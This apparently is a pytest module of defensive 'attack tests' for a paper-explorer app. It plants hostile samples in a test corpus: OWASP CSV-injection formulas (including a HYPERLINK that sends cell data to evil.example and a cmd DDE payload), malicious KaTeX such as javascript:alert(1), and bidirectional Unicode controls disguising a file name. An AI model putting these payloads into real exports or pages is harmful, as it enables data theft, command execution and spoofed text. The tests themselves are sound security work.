"""Attack tests: loopback only, bounded in count and time (docs/hosting.md).

Each test plays a visitor or an attacker against a real server or a real artifact, and
asserts what the attack could not do. The browser fixtures (`browser`, `page`) are
tests/conftest.py's, shared with the end-to-end suite.
"""

import json
import shutil
from pathlib import Path

import pytest

# Cells a spreadsheet would run (OWASP's CSV injection examples), planted as corpus text.
FORMULAS = (
    '=HYPERLINK("https://evil.example/x?d="&B2,"Open")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\t=1",
    "\r=1",
)
# Unicode's bidirectional controls: embeddings, overrides, isolates and marks.
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
BIDI_MARK = "BIDIMARK"  # visible text beside every planted control, to find where it shows
# TeX that could link, run HTML, style, stretch or loop the page if KaTeX rendered it.
HOSTILE_MATH = (
    r"$\href{javascript:alert(1)}{click}$",
    r"$\url{https://evil.example}$",
    r"$\htmlClass{x}{y}$",
    r"$\htmlStyle{position:fixed;top:0}{x}$",
    r"$\style{color:red}{x}$",
    r"$\rule{10000px}{10000px}$",
    r"$\Huge x$",
    r"$\color{red}{x}$",
    r"$\textcolor{red}{x}$",
    r"$\def\a{\a\a}\a$",
    r"$\newcommand{\b}{x}\b$",
    r"$\text{\href{https://evil.example}{y}}$",
    r"$x^{\includegraphics{evil.png}}$",
    r"${x$",
    r"$a \\ b$",
    r"$a # b$",
    r"$" + "x^" * 150 + "y$",
)
MATH_MARK = "MATHMARK"
HOSTILE = "hostile"
PLANTED = "planted"
_ABSTRACT = "We study robustness of neural networks to adversarial examples."


def hostile_rows() -> list[dict]:
    """Papers whose title, authors and venue are formulas, and one whose every text field
    hides each bidirectional control between visible words."""
    rows = [
        {"id": f"formula{i}", "title": f, "authors": f, "venue": f, "year": 2024,
         "abstract": f"{_ABSTRACT} Formula {i}: {f}"}
        for i, f in enumerate(FORMULAS)
    ]  # fmt: skip
    rows.append(
        {"id": "math", "title": r"Regret $O(\sqrt{T})$ bounds", "authors": "Eve", "venue": "ICML",
         "year": 2024, "abstract": f"{_ABSTRACT} {MATH_MARK} " + r"a $O(\sqrt{T})$ bound; "
         + " and ".join(HOSTILE_MATH)}
    )  # fmt: skip
    hidden = f"{BIDI_MARK} start {BIDI} gnp.exe end"
    rows.append(
        {"id": "bidi", "title": f"Title {hidden}", "authors": f"Alice {hidden}",
         "venue": "ICML", "year": 2024, "abstract": f"{_ABSTRACT} Abstract {hidden}"}
    )  # fmt: skip
    return rows


@pytest.fixture(scope="session")
def hostile_text_cache(seed_cache, tmp_path_factory) -> Path:
    """A real build named 'hostile' (the seed and planted abstracts plus `hostile_rows`),
    curated: one topic renamed to a formula, another to a label hiding the controls (left
    by an older version: refused today, so never applied, and shown neutralised)."""
    from explorer.artifacts import open_run
    from explorer.build.pipeline import build
    from tests.conftest import build_config, topic_ids
    from tests.planted import write_planted

    root = tmp_path_factory.mktemp("hostile-text")
    cache = root / "cache"
    shutil.copytree(seed_cache / "embeddings", cache / "embeddings")
    inputs = write_planted(root / "inputs", hostile_rows())
    build(build_config(HOSTILE, inputs), cache_dir=cache, progress=False, log=lambda m: None)
    run = open_run(cache, HOSTILE)
    first, second = topic_ids(run)[:2]
    # A history an older version wrote: today's `record` refuses the second label.
    write_legacy(cache / HOSTILE, run, {first: FORMULAS[0], second: f"{BIDI_MARK} label {BIDI} x"})
    return cache


def write_legacy(corpus_dir: Path, run, labels: dict[str, str]) -> None:
    """A schema-1 curation.json as the old code wrote it (json.dumps, members in every
    change), renaming topics to `labels`: what an older version left on disk."""
    papers = run.table("papers")
    changes = [
        {"id": i, "op": "rename", "node": node, "label": label,
         "members": {node: sorted(papers.loc[papers["topic_id"] == node, "paper_id"])},
         "source": "cli", "time": "2026-01-01T00:00:00+00:00"}
        for i, (node, label) in enumerate(labels.items(), 1)
    ]  # fmt: skip
    text = json.dumps({"schema": 1, "changes": changes}, indent=1)
    (corpus_dir / "curation.json").write_text(text, encoding="utf-8")


@pytest.fixture
def cache(planted_cache, tmp_path) -> Path:
    """A writable copy of the planted corpus with no curation yet: each curation attack
    starts from a clean history."""
    cache = tmp_path / "cache"
    shutil.copytree(planted_cache / PLANTED, cache / PLANTED)
    for name in ("curation.json", "curation.jsonl", "curation.lock"):
        (cache / PLANTED / name).unlink(missing_ok=True)
    return cache


def rename(at, node: str, label: str):
    """Rename `node` to `label` through the Curate page's form of AppTest `at`."""
    box = next(b for b in at.selectbox if str(b.key).startswith("cur_rename_node@"))
    box.set_value(node)
    at.text_input(key="cur_label").input(label)
    next(b for b in at.button if b.label == "Rename").click().run()
    assert not at.exception, [e.value for e in at.exception]
    return at
